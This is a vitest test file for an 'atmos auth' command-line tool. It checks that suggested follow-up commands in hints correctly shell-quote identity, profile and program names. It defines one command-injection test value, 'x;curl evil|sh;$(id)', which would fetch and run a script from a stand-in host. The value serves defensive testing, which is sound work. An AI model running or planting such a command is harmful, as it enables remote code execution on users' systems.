import { mkdirSync, writeFileSync } from 'node:fs';
import { join } from 'node:path';
import { expect, test } from 'vitest';
import { keyOnStdin, mfaDevice, openMachine, type Machine } from './machine.ts';

/** Accepted as the name of an identity, a profile and a program. */
const evil = 'x;curl evil|sh;$(id)';
const word = `'${evil}'`;
const second = 'y z';

/** Has an identity of that name, and another one in a profile of that name. */
async function openEvilMachine(): Promise<Machine> {
  const machine = await openMachine({ mfaCodes: ['111111'] });
  machine.writeConfig(
    JSON.stringify({
      auth: {
        keyring: { type: 'file' },
        identities: { [evil]: user(machine), [second]: user(machine) },
      },
    }),
  );
  const profile = join(machine.project, 'profiles', evil);
  mkdirSync(profile, { recursive: true });
  writeFileSync(
    join(profile, 'auth.yaml'),
    JSON.stringify({ auth: { identities: { other: user(machine) } } }),
  );
  return machine;
}

function user({ sts }: Machine) {
  return {
    kind: 'aws/user',
    credentials: { mfa_arn: mfaDevice },
    spec: { endpoint_url: sts.url },
  };
}

test('a hint quotes the names in the command that it shows', async () => {
  const machine = await openEvilMachine();
  writeFileSync(join(machine.project, evil), '', { mode: 0o644 });
  const shown = async (words: string[], input?: string) =>
    (await machine.atmos(words, { ...(input !== undefined && { input }) })).stderr;

  expect(await shown(['auth', 'user', 'configure', '-i', evil, '--stdin'], keyOnStdin)).toContain(
    `Next: atmos auth login --identity ${word}\n`,
  );
  const cases: [string[], string][] = [
    [['auth', 'whoami', '-i'], `to choose without a prompt: add -i ${word}`],
    [['auth', 'user', 'configure', evil], `atmos auth user configure -i ${word}`],
    [['auth', 'whoami', '-i', 'other'], `it is in profile ${evil}: add --profile ${word}`],
    [['auth', 'whoami', '--profile', second], `it is an identity: add --identity '${second}'`],
    [
      ['auth', 'credential-process', '-i', evil],
      `atmos auth login --identity ${word} --mfa-token <code>`,
    ],
  ];
  for (const [words, hint] of cases) expect(await shown(words)).toContain(`hint: ${hint}\n`);
  expect(await shown(['profile', 'show', evil])).toContain(`to use it: add --profile ${word}\n`);

  machine.sts.script({ fail: { code: 'InvalidClientTokenId', message: 'unknown key' } });
  expect(await shown(['auth', 'login', '-i', evil, '--mfa-token', '111111'])).toContain(
    `hint: atmos auth user configure --identity ${word}\n`,
  );
  expect(
    await shown(['auth', 'exec', '-i', evil, '--mfa-token', '111111', '--', `./${evil}`]),
  ).toContain(`hint: chmod +x './${evil}'\n`);
});
